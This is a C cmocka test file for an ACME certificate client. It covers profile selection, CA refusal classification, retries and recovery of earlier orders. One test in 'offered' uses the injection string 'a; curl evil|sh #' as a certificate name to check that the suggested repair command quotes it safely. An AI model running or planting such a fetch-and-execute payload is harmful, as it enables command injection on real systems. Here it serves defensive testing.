/* SPDX-License-Identifier: MIT */
/* What is asked for beside the names, alone and by the order machine. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include "order_kit.h"
#include "wish.h"

static const struct certrepo_ca narrow = { .name = "two",
					   .ca_profile = "short" };
static struct x509_csr *plain, *client, *many;

static int csrs(void **state)
{
	AUTO(sbuf_free) struct sbuf san = SBUF_INIT(10000);

	if (pki(state) != 0)
		return -1;
	kit_req("client.csr", KIT_EC " -subj /CN=www.example.org -addext "
				     "subjectAltName=DNS:www.example.org,"
				     "DNS:example.org -addext "
				     "extendedKeyUsage=serverAuth,clientAuth");
	for (int i = 0; i < 26; i++)
		sbuf_addf(&san, "%sDNS:%d.example.org", i ? "," : "", i);
	kit_sh("openssl req -nodes -keyout m.key -out many.csr " KIT_EC
	       " -subj / -addext subjectAltName=%s,IP:192.0.2.1",
	       sbuf_str(&san));
	plain = kit_csr("leaf.csr", &err);
	client = kit_csr("client.csr", &err);
	many = kit_csr("many.csr", &err);
	return plain && client && many ? 0 : -1;
}

static int csrs_gone(void **state)
{
	x509_csr_free(&plain);
	x509_csr_free(&client);
	x509_csr_free(&many);
	return gone(state);
}

static void which(void **state)
{
	const struct store_cert none = { .ca_profile = NULL };
	const struct store_cert empty = { .ca_profile = "" };
	const struct store_cert own = { .ca_profile = "own" };

	assert_null(wish_profile(&none, &one));
	assert_null(wish_profile(&empty, &one));
	assert_string_equal(wish_profile(&own, &one), "own");
	assert_string_equal(wish_profile(&none, &narrow), "short");
	assert_string_equal(wish_profile(&empty, &narrow), "short");
	assert_string_equal(wish_profile(&own, &narrow), "own");
}

static void offered(void **state)
{
	struct acme_profile p[50] = { { "classic", "" }, { "a;b", "" } };
	struct acme_offer offer = { .profiles = p, .n_profiles = 2 };
	const struct store_cert row = { .name = NAME, .ca_profile = "own" };
	struct wish w = { .row = &row, .ca = &narrow, .csr = plain };

	OK(wish_offered(&w, &offer, &err));
	OK(wish_offered(&w, NULL, &err));
	w.profile = "classic";
	OK(wish_offered(&w, &offer, &err));
	w.profile = "clas";
	FAILS(ERR_CONFIG,
	      "the CA offers the profiles \"classic\", \"a;b\", but \"clas\" "
	      "was to be asked for: run certrepo-populate set " NAME
	      " ca_profile=...",
	      wish_offered(&w, &offer, &err));
	offer.n_profiles = 0;
	FAILS(ERR_CONFIG, "the CA offers no profiles, but \"clas\"",
	      wish_offered(&w, &offer, &err));
	FAILS(ERR_CONFIG, "the CA offers no profiles",
	      wish_offered(&w, NULL, &err));
	/* not the row's: then it is not the row that is to be changed */
	w.row = &(const struct store_cert){ .name = NAME };
	FAILS(ERR_CONFIG, "change ca_profile of the CA two in the",
	      wish_offered(&w, &offer, &err));
	/* a try at its staging directory: that CA is in no configuration */
	w.ca = &(const struct certrepo_ca){ .name = "two-staging",
					    .staging_of = "two" };
	FAILS(ERR_CONFIG, "change ca_profile of the CA two in the",
	      wish_offered(&w, &offer, &err));
	w.ca = &narrow;
	/* a name is one word of the command, whatever it is */
	w.row = &(const struct store_cert){ .name = "a; curl evil|sh #",
					    .ca_profile = "own" };
	FAILS(ERR_CONFIG, " set 'a; curl evil|sh #' ca_profile=...",
	      wish_offered(&w, &offer, &err));
	w.row = &(const struct store_cert){ .name = "-c", .ca_profile = "own" };
	FAILS(ERR_CONFIG, " set -- -c ca_profile=...",
	      wish_offered(&w, &offer, &err));
	w.row = &(const struct store_cert){ .name = NAME };
	/* however many there are, it is a sentence */
	for (offer.n_profiles = 0; offer.n_profiles < 50; offer.n_profiles++)
		p[offer.n_profiles] = (struct acme_profile){
			"a-profile-with-a-long-name-of-sixty-four-characters", ""
		};
	FAILS(ERR_CONFIG, " more, but \"clas\" was to be asked for: change",
	      wish_offered(&w, &offer, &err));
}

/* --- refusals --- */

#define DETAIL(type, text)                                                     \
	"{\"type\":\"urn:ietf:params:acme:error:" type "\",\"detail\":\"" text \
	"\"}"

static const struct refusal {
	enum wish_step step;
	long status;
	const char *body, *profile;
	struct x509_csr **csr;
	enum fail_class class;
	const char *says, *not ;
	bool lasting;
} refusals[] = {
	/* quirk 19, and the draft: whatever the type */
	{ WISH_ORDER, 400, DETAIL("invalidProfile", "not available"), "short",
	  &plain, FAIL_CONFIG,
	  "the CA refuses the profile \"short\": \"not available\" "
	  "(invalidProfile, status 400); run certrepo-populate set" },
	{ WISH_ORDER, 403,
	  DETAIL("unauthorized", "account ID 7 is not permitted to use "
				 "certificate profile \\\"short\\\""),
	  "short", &plain, FAIL_CONFIG, "refuses the profile \"short\"",
	  "proof of control" },
	{ WISH_ORDER, 400, DETAIL("malformed", "unrecognized"), "short", &plain,
	  FAIL_CONFIG, "refuses the profile \"short\": \"unrecognized\"" },
	{ WISH_ORDER, 400, DETAIL("new", "x"), "short", &plain, FAIL_CONFIG,
	  "refuses the profile" },
	{ WISH_FINALIZE, 400, DETAIL("invalidProfile", "no"), "short", &plain,
	  FAIL_CONFIG, "refuses the profile" },
	{ WISH_FINALIZE, 403,
	  DETAIL("unauthorized", "not permitted to use profile"), "short",
	  &plain, FAIL_CONFIG, "refuses the profile", "proof of control" },
	{ WISH_FINALIZE, 400, DETAIL("badCSR", "not for this profile"), "short",
	  &plain, FAIL_CONFIG, "refuses the profile", "refuses the CSR" },
	/* as far as our CSR tells */
	{ WISH_ORDER, 400,
	  DETAIL("malformed", "Order cannot contain more than 25 identifiers"),
	  "short", &many, FAIL_CONFIG,
	  "the CSR has 27 names, an IP address, which a profile may not" },
	{ WISH_ORDER, 400, DETAIL("unsupportedIdentifier", "no"), "short",
	  &many, FAIL_REJECTED,
	  "the CSR has 27 names, an IP address, which a profile may not allow "
	  "(by the profile \"short\")" },
	{ WISH_FINALIZE, 400, DETAIL("badCSR", "no CN in a profile"), "short",
	  &plain, FAIL_CONFIG, "the CSR has a CN, which" },
	{ WISH_FINALIZE, 400, DETAIL("badCSR", "the profile has no clientAuth"),
	  "short", &client, FAIL_CONFIG, "the CSR has clientAuth (TLS" },
	{ WISH_FINALIZE, 400, DETAIL("badCSR", "hm"), "short", &client,
	  FAIL_BAD_CSR, "the CSR has clientAuth (TLS" },
	/* it has nothing to do with it */
	{ WISH_ORDER, 403, DETAIL("rejectedIdentifier", "policy"), "short",
	  &plain, FAIL_REJECTED, "policy", "profile" },
	{ WISH_ORDER, 429, DETAIL("rateLimited", "profile"), "short", &plain,
	  FAIL_RATE_LIMITED, "", "refuses the profile" },
	{ WISH_ORDER, 400, DETAIL("badNonce", "profile"), "short", &plain,
	  FAIL_CA_DOWN, "", "refuses the profile" },
	{ WISH_ORDER, 400, DETAIL("accountDoesNotExist", "profile"), "short",
	  &plain, FAIL_ACCOUNT, "", "refuses the profile" },
	{ WISH_ORDER, 403, DETAIL("caa", "profile"), "short", &plain, FAIL_CAA,
	  "", "refuses the profile" },
	{ WISH_ORDER, 400, DETAIL("dns", "profile"), "short", &plain, FAIL_DNS,
	  "", "refuses the profile" },
	{ WISH_ORDER, 500, DETAIL("serverInternal", "profile"), "short", &plain,
	  FAIL_CA_DOWN, "", "refuses the profile" },
	{ WISH_ORDER, 400, "<html>", "short", &plain, FAIL_CA_DOWN, "HTML",
	  "refuses the profile" },
	{ WISH_FINALIZE, 403,
	  DETAIL("unauthorized", "no authorization for profile.example.org"),
	  "short", &plain, FAIL_UNAUTHORIZED, "", "refuses the profile" },
	{ WISH_FINALIZE, 400, DETAIL("badCSR", "weak key"), "short", &plain,
	  FAIL_BAD_CSR, "weak key", "profile" },
	/* none was asked for */
	{ WISH_ORDER, 400, DETAIL("malformed", "no such profile"), NULL, &plain,
	  FAIL_INTERNAL, "no such", "refuses the profile" },
	/* quirk 17 */
	{ WISH_FINALIZE, 400,
	  DETAIL("badCSR", "ClientAuth certificates are being deprecated"),
	  NULL, &client, FAIL_BAD_CSR,
	  "a new CSR is needed: this one asks for clientAuth (TLS client "
	  "authentication), which the CA does not certify: \"ClientAuth",
	  "profile", true },
	{ WISH_FINALIZE, 403,
	  DETAIL("unauthorized", "the Extended Key Usage is not allowed"),
	  "short", &client, FAIL_BAD_CSR, "a new CSR is needed", NULL, true },
	{ WISH_FINALIZE, 400, DETAIL("malformed", "EKU"), NULL, &client,
	  FAIL_BAD_CSR, "a new CSR is needed", NULL, true },
	{ WISH_FINALIZE, 400, DETAIL("badCSR", "weak key"), NULL, &client,
	  FAIL_BAD_CSR, "weak key", "new CSR" },
	{ WISH_FINALIZE, 400, DETAIL("badCSR", "no clientAuth"), NULL, &plain,
	  FAIL_BAD_CSR, "no clientAuth", "new CSR" },
};

static void explained(void **state)
{
	const struct store_cert row = { .name = NAME,
					.ca_profile = "short",
					.count_fail_update = 1,
					.fail_class = "dns" };
	const struct store_cert failed = { .name = NAME,
					   .ca_profile = "short",
					   .count_fail_update = 1,
					   .fail_class = "bad-csr" };

	for (size_t i = 0; i < ARRAY_LEN(refusals); i++) {
		const struct refusal *r = &refusals[i];
		const struct wish w = { .row = &row,
					.ca = &one,
					.csr = *r->csr,
					.profile = r->profile };
		const struct wish again = { .row = &failed,
					    .ca = &one,
					    .csr = *r->csr,
					    .profile = r->profile };
		bool order = r->step == WISH_ORDER;
		char type[ACME_PROBLEM_TYPE];
		struct fail f;

		acme_problem_classify(order ? ACME_STEP_ORDER
					    : ACME_STEP_FINALIZE,
				      r->status, "application/problem+json",
				      r->body, strlen(r->body), 0, &f, type);
		wish_explain(&w, r->step, order && *type ? type : NULL, &f);
		assert_int_equal(f.later, r->lasting);
		assert_false(f.lasting);
		/* The same as the time before: that lasts. */
		acme_problem_classify(order ? ACME_STEP_ORDER
					    : ACME_STEP_FINALIZE,
				      r->status, "application/problem+json",
				      r->body, strlen(r->body), 0, &f, type);
		wish_explain(&again, r->step, order && *type ? type : NULL, &f);
		assert_false(f.later);
		if (f.class != r->class || !strstr(f.detail, r->says) ||
		    (r->not &&strstr(f.detail, r->not )) ||
		    f.lasting != r->lasting)
			fail_msg("%s: %s: %s", r->body, fail_name(f.class),
				 f.detail);
	}
}

/* --- newOrder, as the order machine sends it --- */

static const struct certrepo_ca *by;

static struct order *order_by(const char *profile, const char *replaces)
{
	struct order *o = order_new(&env, by, NULL, NULL, NAME, asked, NULL);
	const struct store_field field = { "ca_profile", profile };

	woken = true;
	RC(1, store_set(store, NAME, &field, 1, 0, &err));
	/* whoever claims the row fills it in */
	while (!o->cert)
		event(o);
	o->replaces = arena_strdup(o->row, replaces);
	return o;
}

static void offer_two(void)
{
	static struct acme_profile two[] = { { "classic", "" },
					     { "short", "" } };

	ca.offer = (struct acme_offer){ .profiles = two, .n_profiles = 2 };
}

static const struct {
	const char *profile; /* of the row */
	const struct certrepo_ca *by;
	const char *sent; /* NULL: nothing was */
} sent[] = {
	{ NULL, &one, "-" },	    { "classic", &one, "classic" },
	{ NULL, &narrow, "short" }, { "classic", &narrow, "classic" },
	{ "gone", &one, NULL },
};

static void profile_sent(void **state)
{
	for (size_t i = 0; i < ARRAY_LEN(sent); i++) {
		struct order *o;

		begin(NULL);
		offer_two();
		by = sent[i].by;
		o = order_by(sent[i].profile, NULL);
		(void) run(o, -1);
		assert_int_equal(order_ended(o),
				 sent[i].sent ? ORDER_RENEWED : ORDER_FAILED);
		assert_string_equal(ca.profile,
				    sent[i].sent ? sent[i].sent : "");
		assert_string_equal(attempts(), sent[i].sent ? "ok" : "config");
		assert_int_equal(ca.count[NEW], sent[i].sent ? 1 : 0);
		order_free(&o);
		end();
	}
}

/* Another one than was asked for: a warning, once, and a certificate. */
static void play_echo(void *arg)
{
	const struct ca_says says = { .processing = 3 };
	struct order *o;

	begin(&says);
	offer_two();
	ca.shows = arg;
	by = &one;
	o = order_by("short", NULL);
	(void) run(o, -1);
	assert_int_equal(order_ended(o), ORDER_RENEWED);
	order_free(&o);
	end();
}

static void echo(void **state)
{
	const char *said, *again;

	assert_int_equal(scratch_fork(play_echo, (char *) "classic"), 0);
	said = scratch_read(scratch("err"));
	said = strstr(said, NAME ": the CA was asked for the profile "
				 "\"short\", and its order is by the profile "
				 "\"classic\"");
	assert_non_null(said);
	again = strstr(strchr(said, '\n'), "was asked for");
	assert_null(again);
	assert_int_equal(scratch_fork(play_echo, (char *) "short"), 0);
	assert_string_equal(scratch_read(scratch("err")), "");
}

/* newOrder is refused NTH times, with STATUS and BODY. */
static const struct again {
	const char *what;
	int times; /* 0: always */
	long status;
	const char *body, *profile;
	int orders;
	const char *attempts, *replaces; /* what was sent last */
} agains[] = {
	{ "well", 1, 0, NULL, NULL, 1, "ok", "aki.serial" },
	{ "alreadyReplaced", 1, 409, PROBLEM("alreadyReplaced"), NULL, 2, "ok",
	  "-" },
	{ "malformed", 1, 400, PROBLEM("malformed"), NULL, 2, "ok", "-" },
	{ "unauthorized", 1, 403, PROBLEM("unauthorized"), NULL, 2, "ok", "-" },
	{ "401", 1, 401, PROBLEM("unauthorized"), NULL, 2, "ok", "-" },
	{ "404", 1, 404, "", NULL, 2, "ok", "-" },
	{ "HTML", 1, 400, "<html>", NULL, 2, "ok", "-" },
	{ "429", 1, 429, PROBLEM("rateLimited"), NULL, 1, "rate-limited",
	  "aki.serial" },
	{ "a limit by 403", 1, 403, PROBLEM("rateLimited"), NULL, 1,
	  "rate-limited", "aki.serial" },
	{ "badNonce", 1, 400, PROBLEM("badNonce"), NULL, 1, "ca-down",
	  "aki.serial" },
	{ "no account", 1, 400, PROBLEM("accountDoesNotExist"), NULL, 1,
	  "account", "aki.serial" },
	{ "500", 1, 500, PROBLEM("serverInternal"), NULL, 1, "ca-down",
	  "aki.serial" },
	{ "cut", 1, 0, "", NULL, 1, "ca-down", "aki.serial" },
	{ "refused for good", 0, 403, PROBLEM("rejectedIdentifier"), NULL, 2,
	  "rejected", "-" },
	/* first what it replaces goes, then it is the profile's */
	{ "both, once", 1, 400, PROBLEM("malformed"), "short", 2, "ok", "-" },
	{ "both", 0, 400, PROBLEM("malformed"), "short", 2, "config", "-" },
};

static void once_more(void **state)
{
	for (size_t i = 0; i < ARRAY_LEN(agains); i++) {
		const struct again *a = &agains[i];
		const struct ca_says says = { .twist = { { NEW, a->body ? 1 : 0,
							   a->times, a->status,
							   a->body } } };
		struct order *o;

		begin(&says);
		offer_two();
		by = &one;
		o = order_by(a->profile, "aki.serial");
		(void) run(o, -1);
		if (ca.count[NEW] != a->orders ||
		    strcmp(attempts(), a->attempts) != 0 ||
		    strcmp(ca.replaces, a->replaces) != 0)
			fail_msg("%s: %d orders, %s, %s", a->what,
				 ca.count[NEW], attempts(), ca.replaces);
		if (a->profile)
			assert_string_equal(ca.profile, a->profile);
		order_free(&o);
		end();
	}
}

/* An order that came to nothing because of its profile, or for its usage. */
static const struct {
	struct twist twist;
	const char *profile, *attempts;
	bool held;
} lost[] = {
	{ { FINALIZE, 1, 0, 403,
	    DETAIL("unauthorized", "not permitted to use profile") },
	  "short",
	  "config",
	  false },
	{ { FINALIZE, 1, 0, 200,
	    "{\"status\":\"invalid\",\"error\":" DETAIL(
		    "malformed", "unrecognized profile") "}" },
	  "short",
	  "config",
	  false },
	{ { FINALIZE, 1, 0, 400, DETAIL("badCSR", "no clientAuth") },
	  NULL,
	  "bad-csr",
	  true },
	{ { FINALIZE, 1, 0, 200,
	    "{\"status\":\"invalid\",\"error\":" DETAIL(
		    "unauthorized", "the key usage clientAuth") "}" },
	  NULL,
	  "bad-csr",
	  true },
};

static void finalized(void **state)
{
	for (size_t i = 0; i < ARRAY_LEN(lost); i++) {
		struct ca_says says = { .processing = 0 };
		AUTO(sbuf_free) struct sbuf pem = SBUF_INIT(1 << 16);
		struct order *o;

		says.twist[0] = lost[i].twist;
		begin(&says);
		kit_read("client.csr", &pem);
		OK(store_replace_csr(store, NAME,
				     (struct store_blob){ pem.buf, pem.len },
				     "x", "x", &err));
		offer_two();
		by = &one;
		o = order_by(lost[i].profile, NULL);
		(void) run(o, -1);
		if (strcmp(attempts(), lost[i].attempts) != 0)
			fail_msg("%zu: %s: %s", i, attempts(),
				 order_fail(o)->detail);
		assert_string_equal(saved_state(), "-");
		assert_false(row_of()->held);
		assert_int_equal(row_of()->count_fail_update, 1);
		assert_int_equal(ca.count[FINALIZE], 1);
		order_free(&o);
		/* and once more */
		OK(db_script(store->db,
			     "UPDATE certs SET ts_due = 0, ts_next_attempt = 0",
			     &err));
		o = new_order();
		(void) run(o, -1);
		assert_int_equal(row_of()->held, lost[i].held);
		order_free(&o);
		end();
	}
}

/* An order of an earlier run, by the profile that its CA shows: another is
 * made when one is wanted now, and nothing is lost. */
static const struct {
	const char *shows, *state, *status, *attempts;
	int orders;
} earlier[] = {
	{ "classic", "new", "pending", "ok,let-go", 1 },
	{ "classic", "new", "ready", "ok,let-go", 1 },
	{ "short", "new", "pending", "ok", 0 },
	{ NULL, "new", "pending", "ok", 0 },
	{ "classic", "finalized", "ready", "ok", 0 },
	{ "classic", "parked", "valid", "ok", 0 },
	{ "classic", "new", "valid", "ok", 0 },
};

static void outdated(void **state)
{
	for (size_t i = 0; i < ARRAY_LEN(earlier); i++) {
		struct store_order so = { .name = NAME,
					  .ca_name = "one",
					  .account = acme_account(NULL),
					  .key_sha256 =
						  x509_csr_key(plain)->sha256,
					  .url = "https://ca.test/order/1",
					  .state = earlier[i].state };
		struct order *o;

		begin(NULL);
		so.ts_created = so.ts_state = clock_now() - 60;
		OK(store_order_put(store, &so, &err));
		ca.n_orders = 1;
		ca.order[1] = (struct ca_order){ .status = earlier[i].status,
						 .authz = "pending" };
		offer_two();
		ca.shows = earlier[i].shows;
		by = &one;
		o = order_by("short", NULL);
		event(o);
		/* what the CA makes of the next one is what is asked for */
		while (order_ended(o) == ORDER_NOT_ENDED) {
			if (ca.count[NEW])
				ca.shows = "short";
			(void) run(o, 1);
		}
		if (strcmp(attempts(), earlier[i].attempts) != 0 ||
		    ca.count[NEW] != earlier[i].orders)
			fail_msg("%zu: %s, %d orders", i, attempts(),
				 ca.count[NEW]);
		order_free(&o);
		end();
	}
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(which),     cmocka_unit_test(offered),
		cmocka_unit_test(explained), cmocka_unit_test(profile_sent),
		cmocka_unit_test(echo),	     cmocka_unit_test(once_more),
		cmocka_unit_test(finalized), cmocka_unit_test(outdated),
	};

	return cmocka_run_group_tests(tests, csrs, csrs_gone);
}
